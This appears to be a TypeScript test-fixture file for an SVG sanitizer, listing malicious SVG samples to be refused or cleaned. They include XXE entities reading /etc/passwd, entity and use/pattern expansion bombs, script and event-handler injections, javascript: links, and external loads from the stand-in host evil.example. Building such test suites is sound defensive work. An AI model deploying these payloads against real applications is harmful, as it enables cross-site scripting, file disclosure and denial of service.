import { CANARY } from './picture-bytes.ts';

const XMLNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inside: string, attributes = 'viewBox="0 0 40 30"'): string =>
  `<svg ${XMLNS} ${attributes}>${inside}</svg>`;
const evil = `alert('${CANARY}')`;
const site = `https://evil.example/${CANARY}`;

/** Layers of ten elements that each show the layer before: a hundred lines, ten to the ninth rectangles. */
function layers(count: number, layer: (id: string, before: string) => string): string {
  return Array.from({ length: count }, (_, at) => layer(`l${at + 1}`, `l${at}`)).join('');
}

const TEN = Array.from({ length: 10 }, (_, at) => at);
const useBomb = `<defs><rect id="l0" width="1" height="1"/>${layers(9, (id, before) => `<g id="${id}">${TEN.map(() => `<use href="#${before}"/>`).join('')}</g>`)}</defs><use href="#l9"/>`;
const patternBomb = `<defs><pattern id="l0" width="1" height="1"><rect width="1" height="1"/></pattern>${layers(9, (id, before) => `<pattern id="${id}" width="9" height="9">${TEN.map(() => `<rect width="1" height="1" fill="url(#${before})"/>`).join('')}</pattern>`)}</defs><rect width="9" height="9" fill="url(#l9)"/>`;
const sheetBomb = `<style>${layers(9, (id, before) => `.${id}{fill:url(#${before})}`)}</style><defs><pattern id="l0"><rect/></pattern>${layers(9, (id) => `<pattern id="${id}">${TEN.map(() => `<rect class="${id}" width="1" height="1"/>`).join('')}</pattern>`)}</defs><rect class="l9" style="mask:url(#l9)"/>`;
const markerBomb = `<defs><marker id="m">${'<rect width="1" height="1"/>'.repeat(2000)}</marker></defs><path marker-mid="url(#m)" d="M0 0${'L1 1'.repeat(5000)}"/>`;
const entityBomb = `<!DOCTYPE svg [<!ENTITY a "${CANARY}">${TEN.map((at) => `<!ENTITY a${at} "${`&a${at === 0 ? '' : at - 1};`.repeat(10)}">`).join('')}]>${svg('<text>&a9;</text>')}`;

/** Those that must be refused. */
export const REFUSED_SVGS: Readonly<Record<string, string>> = {
  'an entity bomb': entityBomb,
  'an entity of a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'a parameter entity': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${site}"> %x;]>${svg('')}`,
  'a bomb of uses': svg(useBomb),
  'a bomb of patterns': svg(patternBomb),
  'a bomb of patterns by a style sheet': svg(sheetBomb),
  'a bomb of markers': svg(markerBomb),
  'a circle of uses': svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  'a use of what it is in': svg('<g id="a"><use xlink:href="#a"/></g>'),
  'a pattern filled with itself': svg('<pattern id="p"><rect fill="url(#p)"/></pattern><rect fill="url(#p)"/>'),
  'a mask of itself by its style': svg('<mask id="m"><rect style="mask: url( \'#m\' )"/></mask>'),
  'too many elements': svg('<g/>'.repeat(20_001)),
  'too many attributes': svg(`<g ${Array.from({ length: 100_100 }, (_, at) => `a${at.toString(36)}=""`).join(' ')}/>`),
  'too deep': svg(`${'<g>'.repeat(300)}${'</g>'.repeat(300)}`),
  'far too deep': svg(`${'<g>'.repeat(15_000)}${'</g>'.repeat(15_000)}`),
  'no size': svg('<rect/>', ''),
  'a size in percents': svg('<rect/>', 'width="100%" height="100%"'),
  'no height': svg('<rect/>', 'width="100"'),
  'an empty view box': svg('<rect/>', 'viewBox="0 0 0 0"'),
  'a view box of words': svg('<rect/>', 'viewBox="NaN NaN Infinity x"'),
  'no end': `<svg ${XMLNS} viewBox="0 0 9 9"><g>`,
  'another end': `<svg ${XMLNS} viewBox="0 0 9 9"><g></svg>`,
  'two roots': `${svg('')}${svg('')}`,
  'an undeclared prefix': '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><use xlink:href="#a"/></svg>',
  'another namespace': '<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><script>alert(1)</script></svg>',
  'a tag in a comment': '<!-- <svg --><svg viewBox="0 0 9 9"',
  'a prefix of its own': `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>${evil}</s:script></s:svg>`,
};

/** Those of which something harmless may be left. */
export const CLEANED_SVGS: Readonly<Record<string, string>> = {
  'a script': svg(`<script>${evil}</script>`),
  'a script in CDATA': svg(`<script type="text/ecmascript"><![CDATA[${evil}]]></script>`),
  'a script elsewhere': svg(`<script xlink:href="${site}.js"/><script href="data:text/javascript,${evil}"/>`),
  'a script of another namespace': svg(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${evil}</x:script>`),
  'an element of HTML': svg(`<div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${evil}"/></div>`),
  'a foreign object': svg(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${site}"/></body></foreignObject>`,
  ),
  'a frame': svg(
    `<iframe xmlns="http://www.w3.org/1999/xhtml" src="${site}"/><embed xmlns="http://www.w3.org/1999/xhtml" src="${site}"/>`,
  ),
  'a handler at the root': svg('<rect/>', `viewBox="0 0 9 9" onload="${evil}"`),
  'handlers everywhere': svg(
    `<rect onclick="${evil}" onmouseover="${evil}"/><g onfocusin="${evil}"/><animate attributeName="x" onbegin="${evil}"/>`,
  ),
  'handlers in capitals': svg(`<rect ONCLICK="${evil}" onClick="${evil}"/>`),
  'a handler of another namespace': svg(
    `<rect xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="${site}"/>`,
  ),
  'a link that runs': svg(
    `<a href="javascript:${evil}"><rect/></a><a xlink:href="&#106;avascript:${evil}"><rect/></a>`,
  ),
  'a link elsewhere': svg(`<a href="${site}" target="_top" ping="${site}"><text>out</text></a>`),
  'a link that is set': svg(`<a><set attributeName="href" to="javascript:${evil}"/><rect/></a>`),
  'a link that is animated': svg(
    `<a><animate attributeName="xlink:href" values="#a;javascript:${evil}" begin="0s"/><rect/></a>`,
  ),
  'a link that is animated by another': svg(
    `<a id="x"><rect/></a><animate href="#x" attributeName=" href " to="javascript:${evil}"/>`,
  ),
  'a handler that is set': svg(`<rect><set attributeName="onmouseover" to="${evil}"/></rect>`),
  'a use of another document': svg(`<use href="${site}#a"/><use xlink:href="//evil.example/${CANARY}#a"/>`),
  'a use of data': svg(`<use href="data:image/svg+xml,${CANARY}#a"/>`),
  'a picture elsewhere': svg(`<image href="${site}.png" width="9" height="9"/>`),
  'a picture of this machine': svg(
    `<image xlink:href="file:///etc/passwd" width="9" height="9"/><image href="/api/health"/>`,
  ),
  'an SVG in itself': svg(
    `<image href="data:image/svg+xml;base64,${Buffer.from(svg(`<script>${evil}</script>`)).toString('base64')}"/>`,
  ),
  'a picture that is none': svg(
    `<image href="data:image/png;base64,${Buffer.from(`<script>${CANARY}</script>`).toString('base64')}"/>`,
  ),
  'a filter that loads': svg(`<filter id="f"><feImage href="${site}"/></filter><rect filter="url(#f)"/>`),
  'a fill from elsewhere': svg(`<rect fill="url(${site}#a)" stroke="url('${site}')"/>`),
  'a mask from elsewhere': svg(`<rect mask="url(&quot;${site}#m&quot;)" clip-path="url( ${site} )"/>`),
  'a style that loads': svg(`<rect style="fill:url(${site}#a)"/>`),
  'a style with escapes': svg(`<rect style="fill:\\75 rl(${site}#a)"/>`),
  'a style with comments': svg(`<rect style="fill:url(/**/${site}#a)"/>`),
  'a style of image sets': svg(`<rect style="background:-webkit-image-set('${site}' 1x); mask: image('${site}')"/>`),
  'a style that ran once': svg(
    `<rect style="width:expression(${evil});behavior:url(${site});-moz-binding:url(${site})"/>`,
  ),
  'a sheet that imports': svg(`<style>@import "${site}"; @import url(${site}); rect{fill:red}</style><rect/>`),
  'a sheet with a font': svg(
    `<style>@font-face{font-family:x;src:url(${site}.woff2)} text{fill:red}</style><text>a</text>`,
  ),
  'a sheet with escapes': svg(`<style>@\\69mport '${site}';</style>`),
  'a sheet with a closed tag': svg(`<style>&lt;/style&gt;&lt;script&gt;${evil}&lt;/script&gt;{}</style>`),
  'a sheet in CDATA': svg(`<style><![CDATA[rect{background:url("${site}")}]]></style>`),
  'a sheet with an open end': svg(`<style>rect{fill:url(${site}</style>`),
  'a sheet with a namespace': svg(`<style>@namespace url(${site}); rect{fill:red}</style>`),
  'a style sheet by instruction': `<?xml version="1.0"?><?xml-stylesheet href="${site}" type="text/css"?>${svg('<rect/>')}`,
  'an instruction inside': svg(`<?php echo '${CANARY}' ?><rect/>`),
  'a comment': `<!-- ${CANARY} -->${svg(`<!-- ${CANARY} --><rect/>`)}<!-- ${CANARY} -->`,
  metadata: svg(
    `<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">${CANARY}</rdf:RDF></metadata>`,
  ),
  'the notes of a program': svg(
    `<sodipodi:namedview xmlns:sodipodi="urn:s" pagecolor="${CANARY}">${CANARY}</sodipodi:namedview><g xmlns:inkscape="urn:i" inkscape:label="${CANARY}" data-name="${CANARY}"/>`,
  ),
  'a doctype with a name': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${site}">${svg('<rect/>')}`,
  'a base elsewhere': svg('<use href="#a"/>', `viewBox="0 0 9 9" xml:base="${site}"`),
  'a cursor and a font': svg(
    `<cursor xlink:href="${site}"/><font-face-src><font-face-uri href="${site}"/></font-face-src><tref xlink:href="${site}"/>`,
  ),
  'a gradient from elsewhere': svg(`<linearGradient id="g" href="${site}#g"/><rect fill="url(#g)"/>`),
  'a path along elsewhere': svg(
    `<text><textPath href="${site}#p">words</textPath></text><animateMotion><mpath href="${site}#p"/></animateMotion>`,
  ),
  'a listener': svg(`<handler type="text/javascript">${evil}</handler><listener handler="#x"/>`),
  'a size of a wall': svg('<rect/>', 'width="900000" height="400000"'),
  'a size of nothing': svg('<rect/>', 'width="0" height="0" viewBox="0 0 3 2"'),
  'a line of a picture': svg('<rect/>', 'width="9999999" height="0.0001"'),
  'no namespace': `<svg viewBox="0 0 9 9"><script>${evil}</script></svg>`,
  'an unknown element': svg(`<blink>${CANARY}</blink><portal src="${site}"/>`),
};
